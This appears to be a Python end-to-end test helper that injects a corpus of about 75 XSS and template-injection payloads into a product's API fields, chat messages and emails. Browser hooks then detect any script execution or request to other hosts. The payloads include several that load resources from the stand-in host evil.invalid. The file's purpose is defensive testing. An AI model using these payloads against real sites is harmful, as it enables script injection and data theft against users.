"""Texts that would like to be more than text, and what looks whether one of them has become so."""

from __future__ import annotations

import itertools
import secrets
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from email.message import EmailMessage
from email.utils import formatdate
from typing import Any
from urllib.parse import urlsplit

import aiosmtplib
from playwright.async_api import Dialog, Page, Request

from tests.journeys.talks import Mailbox, Person, WhatsApp
from tests.journeys.world import Api

#: Each runs `hit()` or asks `evil.invalid` where it is taken for anything but text. Old and new ways: elements,
#: attributes broken out of, addresses, SVG and MathML, styles, templates, encodings, comments, mutations.
CORPUS = (
    "<script>hit()</script>", "</script><script>hit()</script>", "<ScRiPt src=//evil.invalid/x.js></ScRiPt>",
    "<img src=x onerror=hit()>", "<img src=x:x onerror\n=hit()>", '"><img src=x onerror=hit()>',
    "'><img src=x onerror=hit()>", "`><img src=x onerror=hit()>", "<svg onload=hit()>", "<svg/onload=hit()//",
    "<svg><script>hit()</script></svg>", "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:hit()><text y=9>go</text></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload=hit()>>",
    "<math><mtext><img src=x onerror=hit()></mtext></math>", "<math href=javascript:hit()>go</math>",
    "<math><mi//xlink:href='data:x,<script>hit()</script>'>", '" onmouseover="hit()" autofocus onfocus="hit()" x="',
    "' onfocus='hit()' autofocus tabindex=1 '", "x onpointerenter=hit() ", "<a href=javascript:hit()>go</a>",
    "<a href=' jav&#x09;ascript:hit()'>go</a>", "[go](javascript:hit())",
    "[go](data:text/html,<script>hit()</script>)", "javascript:hit()//", "data:text/html,hit()",
    "<iframe src=javascript:hit()>", "<iframe srcdoc='<script>parent.hit()</script>'>",
    "<object data=//evil.invalid/o>", "<embed src=//evil.invalid/e>",
    "<link rel=stylesheet href=//evil.invalid/s.css>", "<style>@import'//evil.invalid/i'</style>",
    "<style>*{background:url(//evil.invalid/b)}</style>", "<div style=background:url(//evil.invalid/d)>x</div>",
    "<meta http-equiv=refresh content='0;//evil.invalid/m'>", "<base href=//evil.invalid/>",
    "<form action=//evil.invalid/f><button>go</button></form>", "<button formaction=javascript:hit()>go</button>",
    "<input onfocus=hit() autofocus>", "<select autofocus onfocus=hit()></select>",
    "<textarea autofocus onfocus=hit()>", "<details open ontoggle=hit()>x</details>",
    "<video><source onerror=hit()></video>", "<audio src=x onerror=hit()>", "<body onload=hit()>",
    "<marquee onstart=hit()>x</marquee>", "<template><script>hit()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'></noscript>", "<!--><img src=x onerror=hit()>-->",
    "<![CDATA[><img src=x onerror=hit()>]]>", "<xmp><img src=x onerror=hit()></xmp>",
    "</textarea><img src=x onerror=hit()>", "</title><img src=x onerror=hit()>",
    "</option></select><img src=x onerror=hit()>", "&lt;img src=x onerror=hit()&gt;",
    "&#60;img src=x onerror=hit()&#62;", "\\u003cimg src=x onerror=hit()\\u003e",
    "%3Cimg%20src=x%20onerror=hit()%3E", "\u202e<img src=x onerror=hit()>", "<img src=x onerror=hit()\u2028>",
    "＜img src=x onerror=hit()＞", "${hit()}", "{{ cycler.__init__.__globals__ }}",
    "{{constructor.constructor('hit()')()}}", "<%= hit() %>", "#{hit()}", "';hit();//", '");hit();//', "*/hit();/*",
    "--><script>hit()</script>",
)  # fmt: skip
#: Fields of a body that people write freely.
FREE = frozenset({
    "name", "title", "text", "subject", "description", "comment", "note", "label", "company", "reason", "first", "last",
    "display", "city", "street", "labels", "tags", "greeting", "body",
})  # fmt: skip
#: What no page of ours has: scripts and styles in its elements, addresses that run, elements of others.
LOOK = """() => {
  const found = [];
  if (window.wasHit) found.push("a script has run");
  for (const each of document.querySelectorAll("*")) {
    for (const { name, value } of each.attributes) {
      if (/^on/i.test(name)) found.push(`${each.localName} has ${name}`);
      if (/^(href|src|action|formaction|data|xlink:href)$/i.test(name)) {
        if (/^[\\s\\x00-\\x20]*(javascript|vbscript|data:text)/i.test(value)) found.push(`${name}=${value}`);
        if (/evil\\.invalid/i.test(new URL(value, location.href).host)) found.push(`leads to ${value}`);
      }
    }
    if (/^(object|embed|base|marquee|math|xmp)$/.test(each.localName)) found.push(`an element ${each.localName}`);
    if (each.matches("script:not([nonce]):not([type='application/json'])")) found.push("a script of somebody");
    if (each.matches("meta[http-equiv=refresh i]")) found.push("a refresh");
    if (each.matches("style:not([nonce])")) found.push("a style of somebody");
  }
  return found;
}"""


class HostileApi(Api):
    """Writes another of the texts into every free field; where the product refuses it, the field stays as it was."""

    def __init__(self, api: Api) -> None:
        super().__init__(api.session, api.token)
        self.texts = itertools.cycle(CORPUS)
        self.taken = 0

    async def call(self, method: str, path: str, body: Any = None, *, status: int = 0, key: str | None = None) -> Any:
        if method in ("GET", "DELETE") or body is None:
            return await super().call(method, path, body, status=status, key=key)
        try:
            answer = await super().call(method, path, self._poisoned(body), status=status)
        except AssertionError:
            return await super().call(method, path, body, status=status, key=key)
        self.taken += 1
        return answer

    def _poisoned(self, value: Any, name: str = "") -> Any:
        if isinstance(value, Mapping):
            return {key: self._poisoned(each, key) for key, each in value.items()}
        if isinstance(value, Sequence) and not isinstance(value, str):
            return [self._poisoned(each, name) for each in value]
        return f"{value} {next(self.texts)}" if isinstance(value, str) and name in FREE else value


@dataclass
class HostileWhatsApp(WhatsApp):
    """Customers whose names and messages are such texts."""

    texts: Any = field(default_factory=lambda: itertools.cycle(CORPUS))

    def text(self, one: Person, text: str) -> bytes:
        hostile = Person(f"{one.name} {next(self.texts)}", one.phone, one.email, one.chat)
        return super().text(hostile, f"{text} {next(self.texts)}")


async def mails(mailbox: Mailbox, people: Sequence[Person]) -> None:
    """Each of them writes a mail with a share of the texts: as HTML, as text, in the subject, as the name of a file."""
    for place, one in enumerate(people):
        part = CORPUS[place :: len(people)]
        subject, file_name = (" ".join(each.split()) for each in (part[0], part[-1].replace("/", "_")))
        mail = EmailMessage()
        mail["From"], mail["To"], mail["Date"] = f"{one.name} <{one.email}>", mailbox.address, formatdate()
        mail["Message-ID"], mail["Subject"] = f"<{secrets.token_hex(8)}@people.example>", f"Question {subject}"
        mail.set_content("\n".join(part))
        mail.add_alternative(f"<html><body><p>Hello</p>{'<hr>'.join(part)}</body></html>", subtype="html")
        mail.add_attachment(b"<script>hit()</script>", "text", "html", filename=f"{file_name}.html")
        await aiosmtplib.send(mail, hostname="127.0.0.1", port=mailbox.port, sender=one.email,
                              recipients=[mailbox.address], start_tls=False, timeout=60)  # fmt: skip


async def watch(page: Page, home: str, faults: list[str]) -> None:
    """Note dialogs, requests to other hosts, and whether `hit` was called."""
    await page.add_init_script("window.hit = () => { window.wasHit = true; };")
    page.on("dialog", lambda dialog: _dialog(dialog, faults))
    page.on("request", lambda request: _request(request, urlsplit(home).netloc, faults))


async def _dialog(dialog: Dialog, faults: list[str]) -> None:
    faults.append(f"a dialog: {dialog.message}")
    await dialog.dismiss()


def _request(request: Request, home: str, faults: list[str]) -> None:
    url = urlsplit(request.url)
    if url.scheme in ("http", "https", "ws", "wss") and url.netloc != home:
        faults.append(f"asked {request.url}")
